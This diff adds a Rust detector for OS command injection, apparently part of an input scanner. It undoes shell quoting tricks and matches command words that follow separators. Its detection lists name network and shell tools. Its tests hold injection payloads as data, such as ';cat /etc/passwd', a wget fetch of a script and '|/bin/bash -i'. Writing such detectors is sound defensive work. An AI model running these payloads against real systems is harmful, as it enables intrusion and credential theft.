@@ -1,0 +1,191 @@
+//! OS command injection: a command word in command position — after a
+//! shell separator, inside `$(...)` or backticks — once quoting tricks
+//! (`c'a't`, `c\at`, `${IFS}`) are undone.
+
+use haetae_model::Confidence::{High, Medium};
+
+use super::{Hit, Kind, Target};
+
+/// Commands that are almost never English words.
+const STRONG: &[&str] = &[
+    "cat", "ls", "id", "whoami", "uname", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "ksh",
+    "csh", "dash", "python", "python2", "python3", "perl", "ruby", "php", "lua", "node", "chmod", "chown",
+    "rm", "mkfifo", "telnet", "ssh", "scp", "ftp", "tftp", "ping", "nslookup", "dig", "ifconfig", "ipconfig",
+    "netstat", "passwd", "crontab", "base64", "xxd", "awk", "gawk", "sed", "grep", "egrep", "busybox",
+    "powershell", "pwsh", "cmd", "cmd.exe", "certutil", "bitsadmin", "wmic", "reg", "net", "net1", "tasklist",
+    "systeminfo", "nohup", "sudo", "su", "env", "printenv", "hostname", "pwd", "uptime", "ps", "kill",
+    "killall", "useradd", "usermod", "mknod", "dd", "tar", "unzip", "gcc", "cc", "socat", "sleep", "echo",
+    "printf", "eval", "exec", "expr", "xargs", "tee", "touch", "cp", "mv", "ln", "head", "tail", "less",
+    "more", "nl", "od", "strings", "id;", "rev", "tac", "whoami.exe", "rundll32", "regsvr32", "mshta",
+    "cscript", "wscript", "msiexec", "schtasks", "vssadmin", "icacls", "cacls", "attrib", "ver",
+];
+
+/// Command words that are also English (or too short to trust after a
+/// weak separator like `;` or `&`).
+const WEAK: &[&str] = &["time", "find", "type", "dir", "set", "sort", "date", "which", "who", "test", "read", "wait", "start", "call", "copy", "del", "move", "print", "more", "less", "head", "tail", "kill", "echo", "sleep", "env", "ps", "id", "net", "ver", "reg", "su", "cc", "nl", "od", "rev", "tac", "dd", "sh"];
+
+fn undo_quoting(s: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(s.len());
+    let mut i = 0;
+    while i < s.len() {
+        let b = s[i];
+        // `${IFS}`, `$IFS$9`, `$@`, `$*` as separators or no-ops.
+        if b == b'$' {
+            let rest = &s[i + 1..];
+            if rest.starts_with(b"{ifs}") {
+                out.push(b' ');
+                i += 6;
+                continue;
+            }
+            if rest.starts_with(b"ifs") {
+                out.push(b' ');
+                i += 4;
+                if s.get(i) == Some(&b'$') && s.get(i + 1).is_some_and(u8::is_ascii_digit) {
+                    i += 2;
+                }
+                continue;
+            }
+            if matches!(rest.first(), Some(b'@' | b'*')) || rest.first().is_some_and(u8::is_ascii_digit) && i > 0 && s[i - 1].is_ascii_alphabetic() {
+                i += 2;
+                continue;
+            }
+        }
+        // Quotes and backslashes inside a word: c'a't, c"a"t, c\at.
+        if matches!(b, b'\'' | b'"' | b'\\') {
+            let prev = out.last().copied();
+            let next = s.get(i + 1).copied();
+            if prev.is_some_and(|p| p.is_ascii_alphanumeric() || p == b'/') || next.is_some_and(|n| n.is_ascii_alphanumeric() || n == b'/') {
+                if b == b'\\' && next.is_some_and(|n| n.is_ascii_alphanumeric()) {
+                    i += 1;
+                    continue;
+                }
+                if b != b'\\' {
+                    i += 1;
+                    continue;
+                }
+            }
+        }
+        out.push(b);
+        i += 1;
+    }
+    out
+}
+
+fn word_at(s: &[u8], mut i: usize) -> (&[u8], usize, usize) {
+    while i < s.len() && (s[i].is_ascii_whitespace() || matches!(s[i], b'{' | b'(' | b'!')) {
+        i += 1;
+    }
+    let st = i;
+    while i < s.len() && (s[i].is_ascii_alphanumeric() || matches!(s[i], b'_' | b'.' | b'/' | b'-' | b'\\' | b':')) {
+        i += 1;
+    }
+    let w = &s[st..i];
+    // Full paths: /bin/cat, /usr/bin/id, c:\windows\system32\cmd.exe
+    let base = w.rsplit(|&b| b == b'/' || b == b'\\').next().unwrap_or(w);
+    (base, st, i)
+}
+
+fn classify(w: &[u8]) -> Option<bool> {
+    let w = std::str::from_utf8(w).ok()?;
+    let w = w.strip_suffix(".exe").unwrap_or(w);
+    if !STRONG.contains(&w) && !WEAK.contains(&w) {
+        return None;
+    }
+    Some(!WEAK.contains(&w))
+}
+
+pub fn check(t: &Target<'_>) -> Option<Hit> {
+    if matches!(t.kind, Kind::Path | Kind::FileName | Kind::Name) {
+        return None;
+    }
+    let raw = t.norm;
+    if !raw.iter().any(|&b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'<' | b'>' | b'(')) {
+        return None;
+    }
+    let s = undo_quoting(raw);
+    let s = &s[..];
+    let mut i = 0;
+    let mut best: Option<Hit> = None;
+    while i < s.len() {
+        let b = s[i];
+        // (separator length, strong context?)
+        let subst = matches!(b, b'`' | b'\n') || (matches!(b, b'$' | b'<' | b'>') && s.get(i + 1) == Some(&b'('));
+        let sep = match b {
+            b'`' => Some((1, true)),
+            b'$' if s.get(i + 1) == Some(&b'(') => Some((2, true)),
+            b'<' | b'>' if s.get(i + 1) == Some(&b'(') => Some((2, true)),
+            b'|' if s.get(i + 1) == Some(&b'|') => Some((2, true)),
+            b'&' if s.get(i + 1) == Some(&b'&') => Some((2, true)),
+            b'|' => Some((1, true)),
+            b'\n' | b'\r' => Some((1, true)),
+            b';' | b'&' => Some((1, false)),
+            _ => None,
+        };
+        if let Some((len, strong_ctx)) = sep {
+            let (w, _at, end) = word_at(s, i + len);
+            if let Some(strong_word) = classify(w) {
+                let next = s.get(end).copied();
+                // A command word followed by an argument, a separator, or nothing.
+                let shaped = next.is_none_or(|n| n.is_ascii_whitespace() || matches!(n, b';' | b'|' | b'&' | b'`' | b')' | b'<' | b'>' | b'$' | b'}' | b','));
+                if shaped && (strong_word || strong_ctx) {
+                    let conf = if strong_word || subst || w.len() > 3 { High } else { Medium };
+                    let h = Hit::new(2201, conf, format!("command injection: `{}` after a shell separator", String::from_utf8_lossy(w)), i);
+                    if conf == High {
+                        return Some(h);
+                    }
+                    best.get_or_insert(h);
+                }
+            }
+            i += len;
+            continue;
+        }
+        i += 1;
+    }
+    best
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::testutil::target;
+
+    fn hit(s: &str) -> bool {
+        let (norm, ev) = crate::normalize::normalize(s.as_bytes());
+        check(&target(s.as_bytes(), &norm, ev)).is_some_and(|h| h.confidence == High)
+    }
+
+    #[test]
+    fn catches_injections() {
+        for a in [
+            ";cat /etc/passwd",
+            "127.0.0.1 | whoami",
+            "x && wget http://a/b.sh",
+            "$(id)",
+            "`uname -a`",
+            "a;c'a't /etc/passwd",
+            "a;cat${IFS}/etc/passwd",
+            "1|/bin/bash -i",
+            "x & powershell -enc AAAA",
+            "x\nid",
+            "127.0.0.1&&ping -c 3 127.0.0.1",
+        ] {
+            assert!(hit(a), "missed: {a}");
+        }
+    }
+
+    #[test]
+    fn passes_prose() {
+        for b in [
+            "Tom & Jerry",
+            "during that time; he came",
+            "exec noun",
+            "time he came.",
+            "Products | Store",
+            "R&D; find the type",
+            "a & b; c",
+            "salt & pepper",
+        ] {
+            assert!(!hit(b), "false positive: {b}");
+        }
+    }
+}
